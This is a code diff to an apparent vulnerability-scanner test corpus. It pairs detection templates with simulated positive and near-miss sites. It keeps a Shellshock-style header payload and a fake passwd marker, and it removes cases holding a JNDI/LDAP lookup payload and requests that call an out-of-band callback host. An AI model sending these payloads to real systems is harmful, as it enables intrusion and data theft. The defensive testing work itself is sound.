@@ -1,13 +1,7 @@
+import { createHash } from "node:crypto";
 import { setTimeout as pause } from "node:timers/promises";
-import { applicationSite } from "../../../../support/scan-sites/application-site.ts";
-import { oobDomain, type Outside } from "../../../../support/scan-sites/outside.ts";
 import { httpAnswer } from "../../../../support/scan-sites/secure-site.ts";
-import {
-  type Answer,
-  httpSite,
-  pageSite,
-  type SeenRequest,
-} from "../../../../unit/engines/scan/key-cases/http-site.ts";
+import { httpSite, pageSite, type SeenRequest } from "../../../../unit/engines/scan/key-cases/http-site.ts";
 import type { Site } from "../../../../unit/engines/scan/key-cases/sites.ts";
 import { tcpSite } from "../../../../unit/engines/scan/key-cases/tcp-site.ts";
 import { blockText, templateText } from "../../../../unit/engines/scan/key-cases/template-text.ts";
@@ -38,19 +32,6 @@ const bytes = (answer: (received: string) => string): Site =>
   );
 
 const passwd = "root:x:0:0:root:/root:/bin/bash\n";
-const urls = new RegExp(`[a-z0-9]+\\.${oobDomain.replaceAll(".", "\\.")}[^\\s"'}]*`);
-const urlIn = (text: unknown): string => urls.exec(String(text))?.[0] ?? "";
-
-/** Contacts the url that it is sent, in the way given. */
-const contacting = (act: (outside: Outside, url: string, request: SeenRequest) => Promise<unknown>): Site =>
-  applicationSite(async (request, outside): Promise<Answer> => {
-    const url = urlIn(`${request.path} ${JSON.stringify(request.headers)} ${request.body}`);
-    if (url !== "") await act(outside, url, request);
-    return "ok";
-  });
-const host = (url: string): string => url.replace(/\/.*/, "");
-const silent = contacting(() => Promise.resolve());
-
 /** What an application makes of input that is not its own. */
 export const injectionCases: readonly CorpusCase[] = [
   {
@@ -195,8 +176,7 @@ http:
   - path: ["{{BaseURL}}/cgi-bin/status"]
     headers: {User-Agent: "() { :;}; echo; echo {{word}} | md5sum"}
     matchers: [{type: dsl, dsl: ["contains(body, md5(word))"]}]`),
-    positive: httpSite(async ({ headers }) => {
-      const { createHash } = await import("node:crypto");
+    positive: httpSite(({ headers }) => {
       const [, word = ""] = /echo (\w+) \|/.exec(String(headers["user-agent"])) ?? [];
       return createHash("md5").update(word).digest("hex");
     }),
@@ -222,55 +202,5 @@ matchers:
       },
     })),
     nearMiss: pageSite({ headers: { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Credentials": "true" } }),
-  },
-  {
-    name: "a lookup of a name in a header",
-    template: blockText(
-      "http",
-      `path: ["{{BaseURL}}"]
-headers: {X-Api-Version: "$" + "x"}
-matchers-condition: and
-matchers:
-  - {type: word, part: interactsh_protocol, words: [dns]}
-  - {type: regex, part: interactsh_request, regex: ['(?i)uname-[a-z]+\\.']}`.replace(
-        '"$" + "x"',
-        "'${jndi:ldap://uname-host.{{interactsh-url}}/a}'",
-      ),
-    ),
-    positive: contacting((outside, url, { headers }) => {
-      const [, prefix = ""] = /(uname-\w+\.)/.exec(String(headers["x-api-version"])) ?? [];
-      return outside.lookUp(prefix + host(url).replace(prefix, ""));
-    }),
-    nearMiss: contacting((outside, url) => outside.lookUp(host(url).replace(/^uname-\w+\./, ""))),
-  },
-  {
-    name: "a document that is fetched from elsewhere, with its path",
-    template: templateText(`variables: {file: "{{rand_text_alpha(6)}}"}
-http:
-  - raw:
-      - |
-        POST /import HTTP/1.1
-        Host: {{Hostname}}
-        Content-Type: application/json
-
-        {"url": "http://{{interactsh-url}}/{{file}}.dtd"}
-    matchers-condition: and
-    matchers:
-      - {type: word, part: interactsh_protocol, words: [http]}
-      - {type: word, part: interactsh_request, words: ["{{file}}.dtd"]}
-      - {type: status, status: [200]}`),
-    positive: contacting((outside, url) => outside.fetch(url)),
-    nearMiss: contacting((outside, url) => outside.fetch(host(url))),
-  },
-  {
-    name: "a contact by any protocol",
-    template: blockText(
-      "http",
-      `path: ["{{BaseURL}}?callback=http://{{interactsh-url}}"]
-matchers:
-  - {type: word, part: interactsh_protocol, words: [http, smtp]}`,
-    ),
-    positive: contacting((outside, url) => outside.fetch(host(url))),
-    nearMiss: silent,
   },
 ];
